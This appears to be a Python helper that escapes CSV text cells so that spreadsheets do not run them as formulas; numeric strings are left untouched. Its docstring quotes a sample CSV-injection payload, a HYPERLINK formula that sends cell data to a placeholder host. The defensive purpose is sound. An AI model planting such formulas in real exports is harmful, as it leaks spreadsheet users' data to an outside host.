"""CSV text cells that a spreadsheet would run as formulas, kept text.

A cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip first) is a formula to Excel, LibreOffice and Google Sheets: a value
such as `exp.model: =HYPERLINK("http://x/?"&A1)` would run when the CSV is opened (CSV
injection). Such a text cell gets a `'` in front, which spreadsheets read as "this is text"
and do not show. A number written as text (`-1`, `+2.5e3`) is left as it is: it is no
formula, and it stays a number to whoever reads it. Only text cells are touched; numbers
are written as numbers by the writers.
"""

from __future__ import annotations

import re

#: What a spreadsheet reads as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def csv_text(text: str) -> str:
    """`text` as a CSV cell that no spreadsheet runs as a formula (see the module doc)."""
    if text.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text
